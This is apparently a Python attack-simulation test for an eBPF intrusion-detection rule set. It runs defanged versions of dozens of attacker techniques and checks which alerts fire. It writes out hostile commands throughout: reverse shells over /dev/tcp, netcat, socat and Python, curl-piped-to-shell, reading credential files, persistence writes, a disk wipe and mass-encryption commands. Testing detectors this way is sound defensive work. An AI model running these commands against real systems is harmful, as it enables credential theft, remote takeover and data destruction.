#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Attack simulation for the stock rules (docs/detection.md, Attack
simulation). Runs safe versions of real techniques, one after the other,
while a live ebpf-guard with rules/ writes its alerts to ALERTS; after each
technique, the alerts it raised are attributed to it. Prints one line per
technique, "technique<TAB>expected<TAB>fired rules", and a summary; exits 1
when a technique's expected rule did not fire.

Safe: network only on loopback; tools that would change the system are
stand-ins (a copy of /bin/true under the tool's name: the exec is what the
rules see); every file made is removed, every file touched is restored.
Needs root. Usage: sim.py ALERTS WORKDIR
"""
import ctypes
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time

ALERTS, WORK = sys.argv[1], sys.argv[2]
BIN = os.path.join(WORK, "bin")       # stand-ins, on no PATH
os.makedirs(BIN, exist_ok=True)
LOUD = {"warning", "error", "critical"}
libc = ctypes.CDLL(None, use_errno=True)


def standin(name):
    p = os.path.join(BIN, name)
    if not os.path.exists(p):
        shutil.copy("/bin/true", p)
    return p


def run(*argv, **kw):
    subprocess.run(list(argv), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20, **kw)


def sh(cmd):
    run("/bin/sh", "-c", cmd)


def bash(cmd):
    run("/bin/bash", "-c", cmd)


class Undo:
    """Files made by a technique, removed afterwards (deepest first)."""
    def __init__(self):
        self.paths = []

    def make(self, path, text="", mode=None):
        d = os.path.dirname(path)
        missing = []
        while d and not os.path.exists(d):
            missing.append(d)
            d = os.path.dirname(d)
        for m in reversed(missing):
            os.mkdir(m)
            self.paths.append(m)
        with open(path, "w") as f:
            f.write(text)
        if mode is not None:
            os.chmod(path, mode)
        self.paths.append(path)
        return path

    def note(self, path):
        self.paths.append(path)
        return path

    def close(self):
        for p in reversed(self.paths):
            try:
                if os.path.isdir(p) and not os.path.islink(p):
                    shutil.rmtree(p)
                else:
                    os.unlink(p)
            except FileNotFoundError:
                pass


def serve(answer):
    """A loopback TCP server whose thread calls answer(conn) on each
    connection, then closes it; returns its port."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(8)

    def loop():
        while True:
            try:
                c, _ = s.accept()
                answer(c)
                c.close()
            except OSError:
                return
    threading.Thread(target=loop, daemon=True).start()
    return s.getsockname()[1]


def listener():
    """A loopback TCP server that accepts and closes; returns its port."""
    return serve(lambda c: None)


def http_server(body):
    """A loopback HTTP server answering every GET with body."""
    def answer(c):
        c.recv(4096)
        c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
    return serve(answer)


def a_sleeper():
    return subprocess.Popen(["/bin/sleep", "30"])


# ---- the techniques: (name, expected rule, function(undo)) -----------------
T = []


def technique(name, rule):
    def reg(fn):
        T.append((name, rule, fn))
        return fn
    return reg


@technique("read /etc/shadow", "credential_file_read")
def _(u):
    run("cat", "/etc/shadow")


@technique("read an SSH private key", "ssh_private_key_read")
def _(u):
    k = u.make("/root/.ssh/id_egsim", "key\n", 0o600)
    run("python3", "-c", "open(%r).read()" % k)


@technique("read an SSH host key", "ssh_host_key_read")
def _(u):
    keys = [p for p in ("/etc/ssh/ssh_host_ed25519_key", "/etc/ssh/ssh_host_rsa_key") if os.path.exists(p)]
    k = keys[0] if keys else u.make("/etc/ssh/ssh_host_egsim_key", "k\n", 0o600)
    run("tar", "cf", "/dev/null", k)


@technique("read cloud credentials", "cloud_credentials_read")
def _(u):
    c = "/root/.aws/credentials"
    if not os.path.exists(c):
        u.make(c, "[default]\n")
    run("cat", c)


@technique("read a Kubernetes service account token", "kube_service_account_token_read")
def _(u):
    t = u.make("/run/secrets/kubernetes.io/serviceaccount/token", "t\n")
    run("cat", t)


@technique("read kubelet credentials", "kubelet_credentials_read")
def _(u):
    t = u.make("/var/lib/kubelet/pki/kubelet-client-current.pem", "c\n")
    run("cp", t, os.path.join(WORK, "stolen.pem"))


@technique("read a browser's saved passwords", "browser_credential_store_read")
def _(u):
    t = u.make("/root/.mozilla/firefox/egsim.default/logins.json", "{}\n")
    run("python3", "-c", "open(%r).read()" % t)


@technique("read a desktop keyring", "keyring_read")
def _(u):
    t = u.make("/root/.local/share/keyrings/egsim.keyring", "k\n")
    run("tar", "cf", "/dev/null", t)


@technique("read .git-credentials", "netrc_or_service_password_read")
def _(u):
    t = "/root/.git-credentials"
    if not os.path.exists(t):
        u.make(t, "https://u:p@example.org\n")
    run("cat", t)


@technique("grep a shell history", "shell_history_read")
def _(u):
    h = "/root/.bash_history"
    if not os.path.exists(h):
        u.make(h, "")
    run("grep", "-c", "password", h)


@technique("read another process's memory", "proc_memory_read")
def _(u):
    p = a_sleeper()
    run("python3", "-c", "f = open('/proc/%d/mem', 'rb'); f.close()" % p.pid)
    p.kill()
    p.wait()


@technique("run a credential dumper", "credential_dumper_exec")
def _(u):
    s = u.make(os.path.join(WORK, "mimipenguin.sh"), "true\n")
    run("sh", s)


@technique("write a cron job", "cron_job_written")
def _(u):
    u.note("/etc/cron.d/egsim")
    sh("echo '# egsim' > /etc/cron.d/egsim")


@technique("move a prepared file into /etc/cron.d", "persistence_file_renamed_into_place")
def _(u):
    src = u.make(os.path.join(WORK, "job"), "# egsim\n")
    u.note("/etc/cron.d/egsim-mv")
    run("mv", src, "/etc/cron.d/egsim-mv")


@technique("link a dropped unit into place", "persistence_link_created")
def _(u):
    u.note("/etc/cron.d/egsim-ln")
    run("ln", "-s", os.path.join(WORK, "job"), "/etc/cron.d/egsim-ln")


@technique("write a systemd unit", "systemd_unit_written")
def _(u):
    u.note("/etc/systemd/system/egsim.service")
    sh("printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/egsim.service")


@technique("write a user systemd unit", "user_systemd_unit_written")
def _(u):
    u.make("/root/.config/systemd/user/.egsim", "")
    u.note("/root/.config/systemd/user/egsim.service")
    run("python3", "-c", "open('/root/.config/systemd/user/egsim.service', 'w').write('[Service]\\n')")


@technique("write /etc/profile.d", "system_shell_profile_written")
def _(u):
    u.note("/etc/profile.d/egsim.sh")
    sh("echo '# egsim' > /etc/profile.d/egsim.sh")


@technique("open .bashrc for appending", "user_shell_profile_written")
def _(u):
    b = "/root/.bashrc"
    if not os.path.exists(b):
        u.make(b, "")
    run("python3", "-c", "open(%r, 'a').close()" % b)


@technique("add an authorized key", "authorized_keys_written")
def _(u):
    u.make("/home/egsim/.ssh/.keep", "")
    sh("echo 'ssh-ed25519 AAAA egsim' >> /home/egsim/.ssh/authorized_keys")
    u.note("/home/egsim")


@technique("create /etc/ld.so.preload", "ld_so_preload_written")
def _(u):
    if os.path.exists("/etc/ld.so.preload"):
        raise SkipTechnique("/etc/ld.so.preload exists: not touched")
    u.note("/etc/ld.so.preload")
    sh(": > /etc/ld.so.preload")


@technique("write a sudoers drop-in", "sudoers_written")
def _(u):
    u.make("/etc/sudoers.d/.egsim", "")
    u.note("/etc/sudoers.d/egsim")
    sh("echo '# egsim' > /etc/sudoers.d/egsim")


@technique("open /etc/passwd for writing", "account_database_written")
def _(u):
    run("python3", "-c", "open('/etc/passwd', 'a').close()")


@technique("create a user account", "account_created")
def _(u):
    run("useradd", "-M", "-s", "/usr/sbin/nologin", "egsimuser")
    run("userdel", "egsimuser")


@technique("write a login message script", "init_script_written")
def _(u):
    u.note("/etc/update-motd.d/99-egsim")
    sh("echo true > /etc/update-motd.d/99-egsim")


@technique("write a PAM configuration", "pam_configuration_written")
def _(u):
    u.note("/etc/pam.d/egsim")
    sh("echo '# egsim' > /etc/pam.d/egsim")


@technique("write an sshd drop-in", "sshd_config_written")
def _(u):
    u.make("/etc/ssh/sshd_config.d/.egsim", "")
    u.note("/etc/ssh/sshd_config.d/egsim.conf")
    sh("echo '# egsim' > /etc/ssh/sshd_config.d/egsim.conf")


@technique("write a module load list", "kernel_module_autoload_written")
def _(u):
    u.note("/etc/modules-load.d/egsim.conf")
    sh("echo '# egsim' > /etc/modules-load.d/egsim.conf")


@technique("write a udev rule", "udev_rule_written")
def _(u):
    u.make("/etc/udev/rules.d/.egsim", "")
    u.note("/etc/udev/rules.d/99-egsim.rules")
    sh("echo '# egsim' > /etc/udev/rules.d/99-egsim.rules")


@technique("write a desktop autostart entry", "xdg_autostart_written")
def _(u):
    u.make("/root/.config/autostart/.egsim", "")
    u.note("/root/.config/autostart/egsim.desktop")
    run("python3", "-c", "open('/root/.config/autostart/egsim.desktop', 'w').write('[Desktop Entry]\\n')")


@technique("set the set-uid bit on a copy of a program", "setuid_bit_set")
def _(u):
    p = u.note("/tmp/egsim-suid")
    shutil.copy("/bin/true", p)
    run("chmod", "u+s", p)


@technique("run a set-uid program from /tmp", "setuid_program_from_writable_dir")
def _(u):
    p = u.note("/tmp/egsim-suid2")
    shutil.copy("/bin/true", p)
    os.chmod(p, 0o4755)
    run(p)


@technique("execute with an empty argv", "exec_with_empty_argv")
def _(u):
    src = u.make(os.path.join(WORK, "noargv.c"),
                 "#include <unistd.h>\nint main(void){char *a[]={0};execve(\"/bin/true\",a,a);return 1;}\n")
    exe = os.path.join(WORK, "noargv")
    run("cc", "-o", exe, src)
    run(exe)


@technique("attach to another process with ptrace", "ptrace_attach_other_process")
def _(u):
    p = a_sleeper()
    run("python3", "-c", "import ctypes; l = ctypes.CDLL(None); l.ptrace(16, %d, 0, 0); l.ptrace(17, %d, 0, 0)"
        % (p.pid, p.pid))
    p.kill()
    p.wait()


@technique("open another process's memory for writing", "proc_memory_write")
def _(u):
    p = a_sleeper()
    run("python3", "-c", "f = open('/proc/%d/mem', 'r+b'); f.close()" % p.pid)
    p.kill()
    p.wait()


@technique("load a kernel module from /tmp", "kernel_module_from_writable_dir")
def _(u):
    m = u.note("/tmp/egsim.ko")
    with open(m, "wb") as f:
        f.write(b"not a module")
    run("python3", "-c", "import ctypes, os; fd = os.open(%r, os.O_RDONLY); "
        "ctypes.CDLL(None).syscall(313, fd, b'', 0)" % m)


@technique("load a BPF kprobe program", "bpf_tracing_program_loaded")
def _(u):
    code = r'''
import ctypes, struct
insns = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = 0; exit
buf = ctypes.create_string_buffer(insns)
lic = ctypes.create_string_buffer(b"GPL")
attr = ctypes.create_string_buffer(128)
struct.pack_into("<IIQQ", attr, 0, 2, 2, ctypes.addressof(buf), ctypes.addressof(lic))
ctypes.CDLL(None).syscall(321, 5, attr, 128)
'''
    run("python3", "-c", code)


@technique("delete a system log", "system_log_deleted")
def _(u):
    u.make("/var/log/journal/egsim/.keep", "")
    u.note("/var/log/journal/egsim")
    f = u.make("/var/log/journal/egsim/system.journal", "x")
    run("rm", f)


@technique("truncate a system log", "system_log_truncated")
def _(u):
    u.make("/var/log/journal/egsim2/.keep", "")
    u.note("/var/log/journal/egsim2")
    f = u.make("/var/log/journal/egsim2/system.journal", "x")
    sh(": > %s" % f)


@technique("delete a shell history", "shell_history_deleted")
def _(u):
    h = u.make(os.path.join(WORK, "home", ".bash_history"), "ls\n")
    run("rm", h)


@technique("truncate a shell history", "shell_history_truncated")
def _(u):
    h = u.make(os.path.join(WORK, "home2", ".bash_history"), "ls\n")
    run("python3", "-c", "open(%r, 'w').close()" % h)


@technique("switch shell history off", "shell_history_disabled")
def _(u):
    bash("export HISTFILE=/dev/null; true")


@technique("timestomp a file from a system binary", "timestomp_system_file")
def _(u):
    f = u.make(os.path.join(WORK, "stomped"), "")
    run("touch", "-r", "/bin/ls", f)


@technique("run a program as [kworker]", "masquerade_kernel_thread")
def _(u):
    bash("exec -a '[kworker/0:1]' /bin/true")


@technique("run bash under another name", "renamed_shell_exec")
def _(u):
    p = u.note("/tmp/egsim-httpd")
    os.symlink("/bin/bash", p)
    run(p, "-c", "true")


@technique("run a system daemon's name from /tmp", "system_name_from_writable_dir")
def _(u):
    p = u.note("/tmp/sshd")
    shutil.copy("/bin/true", p)
    run(p)


@technique("run a program from a hidden directory", "hidden_executable_run")
def _(u):
    d = u.note("/var/tmp/.egsim")
    os.makedirs(d, exist_ok=True)
    p = os.path.join(d, "agent")
    shutil.copy("/bin/true", p)
    run(p)


@technique("stop the audit daemon (stand-in systemctl)", "security_tool_disabled")
def _(u):
    run(standin("systemctl"), "stop", "auditd")


@technique("flush the firewall (stand-in iptables)", "firewall_flushed")
def _(u):
    run(standin("iptables"), "-F")


@technique("make a file immutable", "immutable_attribute_set")
def _(u):
    f = u.make(os.path.join(WORK, "locked"), "")
    run("chattr", "+i", f)
    run("chattr", "-i", f)


@technique("run a program dropped in /tmp", "exec_from_world_writable_dir")
def _(u):
    p = u.note("/tmp/egsim-payload")
    shutil.copy("/bin/true", p)
    run(p)


@technique("a web server starts a shell, which runs id and scp", "shell_spawned_by_network_service")
def _(u):
    nginx = os.path.join(BIN, "nginx")
    if not os.path.exists(nginx):
        shutil.copy("/bin/bash", nginx)
    scp = standin("scp")
    # the server forks, the child execs the shell (bash runs a lone command
    # without forking: "; true" makes it fork)
    run(nginx, "-c", "/bin/sh -c 'id >/dev/null; %s /etc/hostname x@127.0.0.1:'; true" % scp)


@technique("(same) id run by a shell under the web server", "shell_with_network_service_ancestor")
def _(u):
    pass  # attributed from the previous technique's alerts


@technique("(same) scp from the web server's tree", "remote_file_copy_tool_from_service")
def _(u):
    pass


@technique("bash reverse shell through /dev/tcp", "reverse_shell_dev_tcp")
def _(u):
    port = listener()
    bash("exec 5<>/dev/tcp/127.0.0.1/%d; exec 5>&-" % port)


@technique("netcat -e (stand-in nc)", "netcat_exec_flag")
def _(u):
    run(standin("nc"), "-e", "/bin/sh", "127.0.0.1", "4444")


@technique("socat exec: (stand-in socat)", "socat_shell")
def _(u):
    run(standin("socat"), "TCP:127.0.0.1:4444", "EXEC:/bin/sh,pty,stderr")


@technique("python reverse shell one-liner", "scripting_reverse_shell")
def _(u):
    port = listener()
    run("python3", "-c", "import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',%d));"
        "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-c','true'])" % port)


@technique("(same) stdio on the socket", "stdio_redirected_to_socket")
def _(u):
    pass


@technique("mkfifo reverse shell pipeline (stand-in nc)", "fifo_netcat_pipeline")
def _(u):
    f = u.note(os.path.join(WORK, "f"))
    nc = standin("nc")
    run("timeout", "5", "/bin/sh", "-c",
        "rm -f %s; mkfifo %s; cat %s | /bin/sh -i 2>&1 | %s 127.0.0.1 4444 > %s" % (f, f, f, nc, f))


@technique("curl | sh", "download_piped_to_shell")
def _(u):
    port = http_server(b"true\n")
    sh("curl -s http://127.0.0.1:%d/x.sh | sh" % port)


@technique("base64 -d | bash", "decoded_payload_piped_to_shell")
def _(u):
    bash("echo dHJ1ZQo= | base64 -d | bash")


@technique("python runs a script from /dev/shm", "interpreter_runs_from_writable_dir")
def _(u):
    s = u.make("/dev/shm/egsim.py", "pass\n")
    run("python3", s)


@technique("python creates an executable memfd", "memfd_created_executable_by_interpreter")
def _(u):
    run("python3", "-c", "import os; os.close(os.memfd_create('x'))")


@technique("a service account runs a compiler", "compiler_run_by_service_user")
def _(u):
    if open("/proc/self/loginuid").read().strip() not in ("4294967295", "-1"):
        raise SkipTechnique("this session has a login uid")
    run("setpriv", "--reuid=33", "--regid=33", "--clear-groups", "cc", "--version")


@technique("a miner with a stratum pool (stand-in)", "cryptominer_arguments")
def _(u):
    run(standin("sysupdate"), "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet")


@technique("run ncat", "netcat_like_exec")
def _(u):
    run(standin("ncat"), "--version")


@technique("search for set-uid programs", "setuid_binary_search")
def _(u):
    run("find", "/usr/bin", "-maxdepth", "1", "-perm", "-4000")


@technique("list file capabilities recursively", "capability_search")
def _(u):
    run("getcap", "-r", WORK)


@technique("run linpeas", "privilege_escalation_recon_tool")
def _(u):
    s = u.make(os.path.join(WORK, "linpeas.sh"), "true\n")
    run("sh", s)


@technique("run a scanner (stand-in nmap)", "network_scanner_exec")
def _(u):
    run(standin("nmap"), "-sT", "127.0.0.1")


@technique("sudo -l from a script (stand-in)", "sudo_privileges_listed")
def _(u):
    run("setsid", standin("sudo"), "-l")


@technique("a bind shell listens (program from /tmp)", "shell_listening")
def _(u):
    p = u.note("/tmp/egsim-py")
    shutil.copy(os.path.realpath(sys.executable), p)
    run(p, "-c", "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(1)")


@technique("a tunnel tool (stand-in chisel)", "tunnel_tool_exec")
def _(u):
    run(standin("chisel"), "client", "127.0.0.1:8000", "R:socks")


@technique("ssh reverse tunnel (stand-in)", "ssh_reverse_tunnel")
def _(u):
    run(standin("ssh"), "-N", "-R", "2222:localhost:22", "user@127.0.0.1")


@technique("connect to Tor's SOCKS port", "tor_connection")
def _(u):
    run("curl", "-s", "--max-time", "1", "http://127.0.0.1:9050/")


@technique("download from an IP address (stand-in wget)", "download_from_ip_address")
def _(u):
    run(standin("wget"), "http://203.0.113.9/x")


@technique("download into /tmp", "download_to_writable_dir")
def _(u):
    port = http_server(b"x\n")
    u.note("/tmp/egsim-dl")
    run("curl", "-s", "-o", "/tmp/egsim-dl", "http://127.0.0.1:%d/" % port)


@technique("wipe a disk (stand-in dd)", "disk_wiped")
def _(u):
    run(standin("dd"), "if=/dev/zero", "of=/dev/sda", "bs=1M")


@technique("write into /boot", "boot_files_written")
def _(u):
    if not os.access("/boot", os.W_OK):
        raise SkipTechnique("/boot is not writable")
    u.note("/boot/egsim")
    sh("echo x > /boot/egsim")


@technique("delete the backups (stand-in rm)", "backups_or_snapshots_deleted")
def _(u):
    run(standin("rm"), "-rf", "/var/backups/")


@technique("encrypt a tree with find -exec gpg", "mass_file_encryption_tool")
def _(u):
    sh("true find /home -type f -exec gpg --batch -c {} \\;")


@technique("write the cgroup release_agent", "cgroup_release_agent_written")
def _(u):
    f = u.make(os.path.join(WORK, "cgrp", "release_agent"), "")
    sh("echo /x > %s" % f)


@technique("enter PID 1's namespaces with nsenter", "host_proc_root_access")
def _(u):
    run("nsenter", "-t", "1", "-m", "true")


@technique("debugfs on a disk (stand-in)", "debugfs_on_disk")
def _(u):
    run(standin("debugfs"), "-w", "/dev/sda1")


class SkipTechnique(Exception):
    pass


def read_alerts(offset):
    try:
        with open(ALERTS) as f:
            f.seek(offset)
            data = f.read()
            return data, offset + len(data.encode())
    except FileNotFoundError:
        return "", offset


def settle(offset):
    """Waits until the alert file stops growing; returns the new alerts."""
    out, last_change, deadline = [], time.time(), time.time() + 5
    time.sleep(0.3)
    while time.time() < deadline:
        data, offset = read_alerts(offset)
        if data:
            out.append(data)
            last_change = time.time()
        elif time.time() - last_change > 0.4:
            break
        time.sleep(0.1)
    alerts = [json.loads(line) for line in "".join(out).splitlines() if line.strip()]
    return alerts, offset


def main():
    offset = 0
    _, offset = settle(offset)
    results, prev = [], []
    for name, rule, fn in T:
        u = Undo()
        skipped = None
        try:
            fn(u)
        except SkipTechnique as e:
            skipped = str(e)
        finally:
            u.close()
        alerts, offset = settle(offset)
        fired = sorted({a["rule_id"] for a in alerts if a["severity"] in LOUD or a["rule_id"] == rule})
        if name.startswith("(same)"):
            fired = prev
        else:
            prev = fired
        results.append((name, rule, fired, skipped))
    missed = 0
    for name, rule, fired, skipped in results:
        ok = rule in fired
        if skipped:
            status = "skipped: " + skipped
        else:
            status = "detected" if ok else "MISSED"
            missed += not ok
        print("%s\t%s\t%s\t%s" % (name, rule, ",".join(fired) or "-", status))
    ran = sum(1 for r in results if not r[3])
    print("attack-sim: %d techniques, %d run, %d detected, %d missed" % (len(results), ran, ran - missed, missed))
    return 1 if missed else 0


if __name__ == "__main__":
    sys.exit(main())
